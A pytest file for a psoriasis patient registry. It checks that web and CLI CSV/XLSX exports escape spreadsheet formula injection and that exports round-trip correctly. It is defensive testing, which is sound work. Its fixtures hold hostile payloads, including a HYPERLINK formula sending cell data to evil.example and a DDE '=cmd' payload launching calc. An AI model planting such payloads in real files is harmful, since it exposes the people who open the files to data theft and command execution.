"""Every export is safe to open in a spreadsheet, and the registry's export is a valid input.

* Formula injection (OWASP CSV injection): hostile text is put into the registry (through the
  real service layer, on a real SQLite database) and into input files; then every export - web
  CSV and XLSX as clinician, analyst and admin, ``psoreg outcomes --out`` (CSV, XLSX, stdout),
  ``doses --out``, ``report --tables-dir``, ``cases export``/``list``/``compare`` - is opened
  (XLSX with openpyxl) and no cell may be a formula or start with ``=``, ``+``, ``-``, ``@``,
  tab or CR unescaped (a number stays a number).
* Round trip: the web app's own export (identified workbook, de-identified CSV folder) fed to
  ``psoreg outcomes`` gives exactly the outcomes the web app exports.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from psoreg.cases.cli import cases_app
from psoreg.cli import app
from psoreg.io.spreadsheet import neutralise, unescape
from psoreg.store import service
from psoreg.store.db import open_store
from psoreg.store.models import CourseRow, PatientRow
from tests.conftest import CASE_SERIES, VISIT_COHORT
from tests.web_conftest import PASSWORDS, TEST_SECRET, login

runner = CliRunner()
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"-?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
HOSTILE = {
    "ethnicity": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "comorbidities": "@SUM(1+1)*cmd|' /C calc'!A0",
    "regimen": "+1+1",
    "next_treatment": "-2+3",
    "description": "\t=1+1",
    "sites": "\r=2+2",
    "treatment": "\uff1d1+1",
    "management": "'=already escaped",
}


def unsafe_cells(values: list[object]) -> list[object]:
    """Text cells a spreadsheet would run as a formula (numbers and escaped text are fine)."""
    bad = []
    for v in values:
        if not isinstance(v, str) or not v:
            continue
        if v[0] in TRIGGERS and not NUMBER.fullmatch(v):
            bad.append(v)
    return bad


def csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def check_csv(text: str, where: str) -> list[str]:
    cells = csv_cells(text)
    assert not unsafe_cells(cells), (where, unsafe_cells(cells))
    return cells


def check_xlsx(data: bytes | Path, where: str) -> list[object]:
    src = io.BytesIO(data) if isinstance(data, bytes) else data
    wb = openpyxl.load_workbook(src, data_only=False)
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (where, ws.title, c.coordinate, c.value)
                values.append(c.value)
    assert not unsafe_cells(values), (where, unsafe_cells(values))
    return values


def test_neutralise_rules() -> None:
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("-0.24") == "-0.24" and neutralise(-3.5) == -3.5
    assert neutralise("-2+3") == "'-2+3" and neutralise("@x") == "'@x"
    assert neutralise("\t=1") == "'\t=1" and neutralise("plaque") == "plaque"
    for text in ["=1", "'=1", "''=1", "'-5", "-5", "plain", "'quoted'", "+", "＝1"]:
        assert unescape(neutralise(text)) == text


# --- the web application ---------------------------------------------------------------------


@pytest.fixture
def hostile_app(tmp_path: Path):
    """The demo registry (real app, real SQLite) with hostile text in every free-text field."""
    from psoreg.accounts.users import add_user
    from psoreg.store.seed import seed_visit_cohort
    from psoreg.web import create_app

    store = open_store(f"sqlite:///{tmp_path / 'registry.sqlite3'}", secret=TEST_SECRET)
    actor = service.Actor("tester", "admin")
    with store.session() as s:
        for role, pw in PASSWORDS.items():
            add_user(s, role, pw, role, by="setup")
        seed_visit_cohort(s)
        p = service.create(
            s,
            actor,
            "patients",
            {
                "patient_id": "P99",
                "name": "=cmd|' /C calc'!A0",
                "birth_date": "1970-01-01",
                "ethnicity": HOSTILE["ethnicity"],
                "comorbidities": HOSTILE["comorbidities"],
            },
        )
        c = service.create(
            s,
            actor,
            "courses",
            {
                "drug": "ustekinumab",
                "start_date": "2024-01-08",
                "stop_date": "2024-07-08",
                "stop_reason": "inefficacy",
                "regimen": HOSTILE["regimen"],
                "next_treatment": HOSTILE["next_treatment"],
            },
            parent_pk=p.id,
        )
        for day, pasi in (("2024-01-01", 12), ("2024-04-01", 2), ("2024-07-08", 3)):
            service.create(s, actor, "visits", {"date": day, "pasi": pasi}, parent_pk=c.id)
        service.create(
            s,
            actor,
            "events",
            {
                "kind": "adverse",
                "date": "2024-02-01",
                "description": HOSTILE["description"],
                "sites": HOSTILE["sites"],
                "management": HOSTILE["management"],
            },
            parent_pk=c.id,
        )
        service.create(
            s,
            actor,
            "relapses",
            {"date": "2024-09-02", "treatment": HOSTILE["treatment"]},
            parent_pk=c.id,
        )
    yield create_app(store, TEST_SECRET)
    store.close()


def test_every_web_export_is_formula_free(hostile_app) -> None:
    seen: list[object] = []
    tables = ["patients", "courses", "visits", "doses", "events", "relapses", "outcomes"]
    for role in ("clinician", "analyst", "admin"):
        with TestClient(hostile_app) as client:
            login(client, role)
            for t in tables:
                r = client.get(f"/export/{t}.csv")
                assert r.status_code == 200
                seen += check_csv(r.text, f"{role} {t}.csv")
            xlsx = client.get("/export/registry.xlsx")
            seen += check_xlsx(xlsx.content, f"{role} registry.xlsx")
            if role == "admin":
                seen += check_csv(client.get("/export/audit.csv").text, "audit.csv")
    # the hostile text is there, escaped (forms trim spaces, tabs and CRs around text); the
    # baseline visit before the first dose stays a number
    for text in HOSTILE.values():
        assert neutralise(text.strip()) in seen, text
    assert -1.0 in seen  # week -1 of P99's baseline visit, as a number in the workbook


def test_structured_fields_are_columns_not_reprs(hostile_app) -> None:
    with TestClient(hostile_app) as client:
        login(client, "clinician")
        visits = pd.read_csv(io.StringIO(client.get("/export/visits.csv").text))
    assert "pasi_components" not in visits and "dlqi_answers" not in visits
    assert {"head_erythema", "lower_limbs_area_percent", "dlqi_1", "dlqi_10"} <= set(visits)
    grid = visits.dropna(subset=["head_erythema"])
    assert len(grid) == 1 and grid.iloc[0]["trunk_area_percent"] == 35
    assert not visits.astype(str).apply(lambda c: c.str.contains(r"[{\[]")).any().any()
    with TestClient(hostile_app) as client:
        login(client, "clinician")
        events = pd.read_csv(io.StringIO(client.get("/export/events.csv").text), dtype=str)
    assert "naranjo" not in events and "naranjo_previous_reports" in events
    assert not events.fillna("").apply(lambda c: c.str.contains(r"^[{\[]")).any().any()


# --- the command line ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_files(tmp_path_factory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("hostile")
    series = pd.read_csv(CASE_SERIES, dtype=str, keep_default_na=False)
    series.loc[0, "patient"] = "=1+1"
    series.loc[1, "regimen"] = HOSTILE["ethnicity"]
    series.loc[2, "treatment_after"] = "@SUM(1)"
    series.loc[3, "ethnicity"] = "-2+3"
    abstracted = root / "series.csv"
    series.to_csv(abstracted, index=False)
    cohort = root / "cohort"
    shutil.copytree(VISIT_COHORT, cohort)
    for f in cohort.glob("*.csv"):
        text = f.read_text()
        f.write_text(re.sub(r"(^|,)C01,", r'\1"=C01",', text, flags=re.M))
    courses = cohort / "courses.csv"
    courses.write_text(courses.read_text().replace("45 mg weeks 0", "+45 mg weeks 0", 1))
    return {"abstracted": abstracted, "visits": cohort, "root": root}


def test_every_cli_export_is_formula_free(hostile_files, tmp_path: Path) -> None:
    a, v = hostile_files["abstracted"], hostile_files["visits"]
    seen: list[object] = []
    for src, suffix in ((a, ".xlsx"), (v, ".csv")):
        if True:
            out = tmp_path / f"{src.stem}-outcomes{suffix}"
            res = runner.invoke(app, ["outcomes", str(src), "--out", str(out)])
            assert res.exit_code == 0, res.output
            if suffix == ".csv":
                seen += check_csv(out.read_text(), str(out))
            else:
                seen += check_xlsx(out, str(out))
    res = runner.invoke(app, ["outcomes", str(a)])
    seen += check_csv(res.stdout, "outcomes to stdout")
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"doses{suffix}"
        res = runner.invoke(app, ["doses", str(v), "--out", str(out)])
        assert res.exit_code == 0, res.output
        seen += check_csv(out.read_text(), "doses") if suffix == ".csv" else check_xlsx(out, "d")
    tables = tmp_path / "tables"
    res = runner.invoke(
        app,
        ["report", str(a), "--out", str(tmp_path / "r.md"), "--tables-dir", str(tables),
         "--include-identifiers"],
    )  # fmt: skip
    assert res.exit_code == 0, res.output
    for f in sorted(tables.glob("*.csv")):
        seen += check_csv(f.read_text(), str(f))
    assert (
        "'=1+1" in seen
        and "'@SUM(1)" in seen
        and "'=C01" in seen
        and "'+45" in "".join(str(x) for x in seen)
    )


def test_case_exports_are_formula_free_and_round_trip(tmp_path: Path) -> None:
    from psoreg.cases import CaseRecord, read_cases, write_cases

    case = CaseRecord(
        case_id="hostile-1",
        origin="clinic",
        study='=HYPERLINK("http://evil.example")',
        notes=["@SUM(1)", "-2+3", "+1", "'=x"],
        suspect_drugs=[{"drug": "ustekinumab", "dose": "=45 mg"}],
        sex="F",
        age_years=40,
    )
    lib = tmp_path / "lib.csv"
    write_cases([case], lib)
    check_csv(lib.read_text(), "user library")
    assert read_cases(lib) == [case]  # escaped on the way out, unescaped on the way in
    out = tmp_path / "all.csv"
    res = runner.invoke(cases_app, ["export", "--out", str(out), "--library", str(lib)])
    assert res.exit_code == 0, res.output
    check_csv(out.read_text(), "cases export")
    res = runner.invoke(cases_app, ["list", "--format", "csv", "--library", str(lib)])
    check_csv(res.stdout, "cases list")
    res = runner.invoke(
        cases_app, ["compare", "hostile-1", "--format", "csv", "--library", str(lib)]
    )
    assert res.exit_code == 0, res.output
    assert "'=HYPERLINK" in res.stdout
    check_csv(res.stdout, "cases compare")


# --- round trip: the registry's export is a valid input --------------------------------------


@pytest.fixture
def demo_app(tmp_path: Path):
    from psoreg.accounts.users import add_user
    from psoreg.store.seed import seed_visit_cohort
    from psoreg.web import create_app

    store = open_store(f"sqlite:///{tmp_path / 'demo.sqlite3'}", secret=TEST_SECRET)
    with store.session() as s:
        for role, pw in PASSWORDS.items():
            add_user(s, role, pw, role, by="setup")
        seed_visit_cohort(s)
        # a visit before the first dose and a DLQI questionnaire, so both round-trip
        course = s.query(CourseRow).filter_by(course_id="C03").one()
        answers = {f"dlqi_{n}": "a_little" for n in range(1, 11)}
        day = (course.start_date - dt.timedelta(days=10)).isoformat()
        service.create(
            s,
            service.Actor("t", "admin"),
            "visits",
            {"date": day, "pasi": 13, **answers},
            parent_pk=course.id,
        )
        assert s.query(PatientRow).count() == 5
    yield create_app(store, TEST_SECRET)
    store.close()


def _web_outcomes(client) -> pd.DataFrame:
    """The web's outcomes export, without the patient's site (the registry adds it to every
    export; the command line's outcomes have no sites)."""
    df = pd.read_csv(io.StringIO(client.get("/export/outcomes.csv").text))
    assert set(df["site"]) == {"MAIN"}
    return df.drop(columns=["site"])


def _same(a: pd.DataFrame, b: pd.DataFrame) -> None:
    a = a.sort_values("course_id").reset_index(drop=True)
    b = b.sort_values("course_id").reset_index(drop=True)
    pd.testing.assert_frame_equal(a, b, check_dtype=False)


def test_web_export_round_trips_through_psoreg_outcomes(demo_app, tmp_path: Path) -> None:
    with TestClient(demo_app) as client:
        login(client, "clinician")
        workbook = tmp_path / "registry.xlsx"
        workbook.write_bytes(client.get("/export/registry.xlsx").content)
        shown = _web_outcomes(client)
    with TestClient(demo_app) as client:
        login(client, "analyst")
        folder = tmp_path / "deidentified"
        folder.mkdir()
        for t in ("patients", "courses", "visits", "doses", "events", "relapses", "outcomes"):
            (folder / f"{t}.csv").write_text(client.get(f"/export/{t}.csv").text)
        shown_deid = _web_outcomes(client)
    assert len(shown) == 6
    for src, expected in ((workbook, shown), (folder, shown_deid)):
        out = tmp_path / f"{src.stem}-outcomes.csv"
        res = runner.invoke(app, ["outcomes", str(src), "--out", str(out)])
        assert res.exit_code == 0, res.output
        _same(pd.read_csv(out), expected)
    res = runner.invoke(app, ["summarize", str(workbook), "--format", "json"])
    assert res.exit_code == 0, res.output
    assert '"patients"' in res.stdout or "patients" in res.stdout
